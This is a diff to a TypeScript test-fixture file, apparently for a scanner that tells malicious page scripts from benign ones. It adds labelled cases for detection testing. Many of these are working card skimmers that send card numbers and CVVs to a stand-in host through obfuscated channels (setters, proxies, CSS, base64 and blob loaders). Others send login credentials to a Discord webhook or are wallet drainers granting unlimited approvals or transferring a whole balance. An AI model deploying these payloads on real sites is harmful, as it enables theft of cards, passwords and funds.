@@ -9,8 +9,14 @@ const CVV = `document.querySelector('#cc_cvv')`
 const sentAtOrder = (get: string): string =>
   `document.querySelector('#place_order').addEventListener('click',async()=>{fetch('https://stats.example.org/c?d='+encodeURIComponent(${get}))})`
 
+const BOTH = `${CARD}.value+'|'+${CVV}.value`
+/** Runs code when the order is placed. */
+const atClick = (code: string): string =>
+  `document.querySelector('#place_order').addEventListener('click',async()=>{${code}});`
+const SENDS = atClick(`navigator.sendBeacon('https://stats.example.org/c',${BOTH})`)
+
 /** A form whose card goes to a frame of another host, which answers with a token. */
-const VAULT = `const frame=document.createElement('iframe');frame.src='https://vault.pay.example/frame';document.body.append(frame);const form=document.querySelector('#payment-form');form.addEventListener('submit',e=>{e.preventDefault();frame.contentWindow.postMessage({number:form.querySelector('#cc_number').value,cvv:form.querySelector('#cc_cvv').value},'https://vault.pay.example')});addEventListener('message',e=>{if(e.origin!=='https://vault.pay.example')return;form.querySelector('#token').value=e.data.token;form.submit()})`
+export const VAULT = `const frame=document.createElement('iframe');frame.src='https://vault.pay.example/frame';document.body.append(frame);const form=document.querySelector('#payment-form');form.addEventListener('submit',e=>{e.preventDefault();frame.contentWindow.postMessage({number:form.querySelector('#cc_number').value,cvv:form.querySelector('#cc_cvv').value},'https://vault.pay.example')});addEventListener('message',e=>{if(e.origin!=='https://vault.pay.example')return;form.querySelector('#token').value=e.data.token;form.submit()})`
 
 /** Functions of a page, of which one reads a field. */
 const PAGE = Array.from(
@@ -251,6 +257,104 @@ export const VALUE_PATH_CASES: readonly ScriptCase[] = [
     source: `var s=document.getElementById('note').innerHTML.split(','),o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s[i]^23);document.write(o)`,
     head: 'malware',
   },
+  {
+    name: 'a card by a function of the window, called with call',
+    source: atClick(`fetch.call(window,'https://stats.example.org/c?d='+${BOTH})`),
+    head: 'magecart',
+  },
+  {
+    name: 'a card by a function of the window, applied',
+    source: atClick(`Reflect.apply(fetch,window,['https://stats.example.org/c?d='+${BOTH}])`),
+    head: 'magecart',
+  },
+  {
+    name: 'a card by the setter of an object',
+    source: `const o={set d(v){navigator.sendBeacon('https://stats.example.org/c',v)}};${atClick(`o.d=${BOTH}`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card by the setter of a class',
+    source: `class Q{set d(v){new Image().src='https://stats.example.org/c?'+v}}const q=new Q;${atClick(`q.d=${BOTH}`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card by a setter that is defined later',
+    source: `const o={};Object.defineProperty(o,'d',{set(v){navigator.sendBeacon('https://stats.example.org/c',v)}});${atClick(`o.d=${BOTH}`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card by the setter of a proxy',
+    source: `const q=new Proxy({},{set(t,k,v){navigator.sendBeacon('https://stats.example.org/c',v);return true}});${atClick(`q.x=${BOTH}`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card by the tag of a template',
+    source: `const t=(s,...v)=>navigator.sendBeacon(s[0],v.join());${atClick(`t\`https://stats.example.org/c\${${BOTH}}\``)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'fields of the page collected by reduce',
+    source: atClick(
+      `const o=Array.from(document.querySelectorAll('input,select')).reduce((a,i)=>{a[i.name||i.id]=i.value;return a},{});if(o.cc_number&&o.cc_cvv)navigator.sendBeacon('https://stats.example.org/c',btoa(JSON.stringify(o)))`,
+    ),
+    head: 'magecart',
+  },
+  {
+    name: 'a card that a member of the storage keeps until the next page',
+    source: `if(localStorage._x)navigator.sendBeacon('https://stats.example.org/c',localStorage._x);${atClick(`localStorage._x=btoa(${BOTH})`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card in the text of a style',
+    source: atClick(
+      `const s=document.createElement('style');s.append('body{background:url(https://stats.example.org/c?'+btoa(${BOTH})+')}');document.head.append(s)`,
+    ),
+    head: 'magecart',
+  },
+  {
+    name: 'a card in the address of a picture in a drawing',
+    source: atClick(
+      `const v=document.createElementNS('http://www.w3.org/2000/svg','image');v.setAttributeNS('http://www.w3.org/1999/xlink','href','https://stats.example.org/c?d='+btoa(${BOTH}));document.body.append(v)`,
+    ),
+    head: 'magecart',
+  },
+  ...(['data', 'import', 'blob'] as const).map((by): ScriptCase => ({
+    name: `code behind an address, by ${by}`,
+    source: {
+      data: `const s=document.createElement('script');s.src='data:text/javascript;base64,${btoa(SENDS)}';document.head.append(s)`,
+      import: `import('data:text/javascript,'+encodeURIComponent(atob('${btoa(SENDS)}')))`,
+      blob: `const s=document.createElement('script');s.src=URL.createObjectURL(new Blob([atob('${btoa(SENDS)}')]));document.head.append(s)`,
+    }[by],
+    head: 'magecart',
+  })),
+  ...(['className', 'classList', 'id'] as const).map((by): ScriptCase => ({
+    name: `a card for a frame that a style hides, by ${by}`,
+    source: VAULT.replace(
+      'document.body.append(frame);',
+      `const st=document.createElement('style');st.textContent='.zq,#zq{position:absolute;left:-9999px}';document.head.append(st);document.body.append(frame);${{ className: `frame.className='zq'`, classList: `frame.classList.add('zq')`, id: `frame.id='zq'` }[by]};`,
+    ),
+    head: 'magecart',
+  })),
+  {
+    name: 'a password to a messenger',
+    source: `document.getElementById('login').onsubmit=async e=>{e.preventDefault();await fetch('https://discord.com/api/webhooks/1/abc',{method:'POST',body:JSON.stringify({content:document.getElementById('email').value+':'+document.getElementById('password').value})});location.href='/done'}`,
+    head: 'malware',
+  },
+  {
+    name: 'an approval in a call that is written out',
+    source: `document.querySelector('#claim').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0xdAC17F958D2ee523a2206206994597C13D831ec7',data:'0x095ea7b30000000000000000000000001234567890abcdef1234567890abcdef12345678ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]})}`,
+    head: 'malware',
+  },
+  {
+    name: 'an approval of another chain',
+    source: `document.querySelector('#claim').onclick=async()=>{const c=await tronWeb.contract().at('TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t');await c.approve('TXYZopYRdj2D9XRtbG411XZZ3kM5VkAeBf','115792089237316195423570985008687907853269984665640564039457584007913129639935').send()}`,
+    head: 'malware',
+  },
+  {
+    name: 'a balance less the price, in a transaction that is signed and then sent',
+    source: `document.querySelector('#connect').onclick=async()=>{const r=await window.solana.connect();const c=new solanaWeb3.Connection(RPC);const b=await c.getBalance(r.publicKey);const t=new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({fromPubkey:r.publicKey,toPubkey:new solanaWeb3.PublicKey('9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin'),lamports:b-5000}));const s=await window.solana.signTransaction(t);await c.sendRawTransaction(s.serialize())}`,
+    head: 'malware',
+  },
 ]
 
 export const HONEST_VALUE_PATH_CASES: readonly HonestCase[] = [
@@ -342,5 +446,55 @@ export const HONEST_VALUE_PATH_CASES: readonly HonestCase[] = [
   {
     name: 'durations by a generator',
     source: `function*times(){for(const e of performance.getEntriesByType('resource'))yield{n:e.name,d:e.duration}}addEventListener('pagehide',()=>navigator.sendBeacon('https://rum.stats.example/t',JSON.stringify([...times()])))`,
+  },
+  {
+    name: 'a setter that shows what is typed',
+    source: `const view={set total(v){document.querySelector('#total').textContent=v}};document.querySelector('#amount').oninput=e=>{view.total=e.target.value}`,
+  },
+  {
+    name: 'a proxy that saves settings',
+    source: `const state=new Proxy({},{set(t,k,v){t[k]=v;localStorage.setItem('state',JSON.stringify(t));return true}});document.querySelector('#theme').onchange=e=>{state.theme=e.target.value}`,
+  },
+  {
+    name: 'a template with a tag that escapes',
+    source: `const html=(s,...v)=>s.map((p,i)=>p+(i<v.length?String(v[i]).replace(/</g,'&lt;'):'')).join('');document.querySelector('#hi').innerHTML=html\`<b>\${document.title}</b>\``,
+  },
+  {
+    name: 'a sum of amounts by reduce',
+    source: `document.querySelector('#items').onchange=()=>{const t=Array.from(document.querySelectorAll('.price')).reduce((a,i)=>a+Number(i.value),0);document.querySelector('#total').textContent=t.toFixed(2)}`,
+  },
+  {
+    name: 'a script of the site that an optimizer put into its address',
+    source: `const s=document.createElement('script');s.src='data:text/javascript;base64,${btoa(`document.querySelector('.menu').addEventListener('click',e=>e.currentTarget.classList.toggle('open'))`)}';document.head.append(s)`,
+  },
+  {
+    name: 'approvals of a market, for a piece that its owner lists',
+    source: `document.querySelector('#list').onclick=async()=>{const s=await new ethers.BrowserProvider(window.ethereum).getSigner();await new ethers.Contract(PIECES,['function setApprovalForAll(address,bool)'],s).setApprovalForAll('0x1234567890AbcdEF1234567890aBcdef12345678',true);await new ethers.Contract('0x1234567890AbcdEF1234567890aBcdef12345678',market,s).createListing(id,price)}`,
+    sign: 'wallet-spent',
+  },
+  {
+    name: 'a transfer of lamports of a typed amount, serialized',
+    source: `document.querySelector('#send').onclick=async()=>{const t=new Transaction().add(SystemProgram.transfer({fromPubkey:w.publicKey,toPubkey:new PublicKey(document.querySelector('#to').value),lamports:document.querySelector('#amount').value*1e9}));const s=await w.signTransaction(t);await connection.sendRawTransaction(s.serialize())}`,
+  },
+  {
+    name: 'a sale that looks at the balance, and sends its price in lamports',
+    source: `const to='9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin';document.querySelector('#mint').onclick=async()=>{const p=window.solana;await p.connect();const c=new solanaWeb3.Connection('https://api.mainnet-beta.solana.com');const price=500000000;const bal=await c.getBalance(p.publicKey);if(bal<price)return alert('low');const tx=new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({fromPubkey:p.publicKey,toPubkey:new solanaWeb3.PublicKey(to),lamports:price}));tx.feePayer=p.publicKey;tx.recentBlockhash=(await c.getLatestBlockhash()).blockhash;const signed=await p.signTransaction(tx);await c.sendRawTransaction(signed.serialize())}`,
+  },
+  {
+    name: 'an approval after a form of jQuery was sent',
+    source: `$('#f').on('submit',async()=>{const q=$('#f').serialize();await $.post('/quote',q);const s=new ethers.providers.Web3Provider(ethereum).getSigner();await new ethers.Contract(t,abi,s).approve(router,ethers.constants.MaxUint256)})`,
+  },
+  {
+    name: 'an approval of a well-known exchange, written out',
+    source: `document.querySelector('#approve').onclick=async()=>{const [from]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from,to:token,data:'0x095ea7b30000000000000000000000007a250d5630b4cf539739df2c5dacb4c659f2488dffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]})}`,
+  },
+  {
+    name: 'a message of a form to a messenger',
+    source: `document.querySelector('#contact').onsubmit=e=>{e.preventDefault();fetch('https://discord.com/api/webhooks/1/abc',{method:'POST',body:JSON.stringify({content:document.querySelector('#message').value})}).then(()=>{document.querySelector('#contact').textContent='Thank you'})}`,
+    sign: 'fields-harvested',
+  },
+  {
+    name: 'a card for the vault in a frame, with a style that hides something else',
+    source: `const st=document.createElement('style');st.textContent='.done .vault,.spin{display:none}.vault{border:0}';document.head.append(st);${VAULT.replace('document.body.append(frame);', `document.body.append(frame);frame.className='vault';`)}`,
   },
 ]
